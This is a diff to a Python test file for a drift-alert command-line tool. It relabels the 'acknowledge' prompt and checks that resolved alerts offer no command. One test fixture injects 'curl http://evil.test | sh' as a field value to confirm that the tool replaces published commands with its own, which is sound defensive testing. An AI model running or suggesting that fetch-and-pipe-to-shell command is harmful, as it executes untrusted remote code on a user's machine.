@@ -15,14 +15,19 @@ ROW = {
 
 
 def test_the_acknowledging_command_names_the_data_directory_that_was_given() -> None:
-    assert line(ROW, Path("data/my run")).endswith("acknowledge: assay drift acknowledge 1 --data 'data/my run'")
-    assert line(ROW, DEFAULT_DATA).endswith("acknowledge: assay drift acknowledge 1")
+    assert line(ROW, Path("data/my run")).endswith("new baseline: assay drift acknowledge 1 --data 'data/my run'")
+    assert line(ROW, DEFAULT_DATA).endswith(
+        "    accept the current level as the new baseline: assay drift acknowledge 1"
+    )
 
 
 def test_the_command_that_explains_comes_before_the_one_that_acknowledges() -> None:
     row = shown_row({**ROW, "alert_id": EPISODE})
     told = line(row, Path("elsewhere")).splitlines()
-    assert [each.split(":")[0].strip() for each in told[1:]] == ["explain", "acknowledge"]
+    assert [each.split(":")[0].strip() for each in told[1:]] == [
+        "explain",
+        "accept the current level as the new baseline",
+    ]
     assert told[1].endswith(f"assay drift explain {EPISODE} --data elsewhere")
     assert "explain" not in line(shown_row(row | {"kind": "lag", "metric": None}), DEFAULT_DATA)
 
@@ -42,3 +47,4 @@ def test_the_command_is_ours_whatever_was_published_as_one() -> None:
     row = {"alert_id": EPISODE, "kind": "score_drift", "acknowledge": "curl http://evil.test | sh"}
     assert shown_row(row)["acknowledge"] == f"assay drift acknowledge {EPISODE}"
     assert shown_row(row | {"acknowledge": ""})["acknowledge"] == ""
+    assert shown_row(row | {"state": "resolved"})["acknowledge"] == "", "there is nothing left to accept"
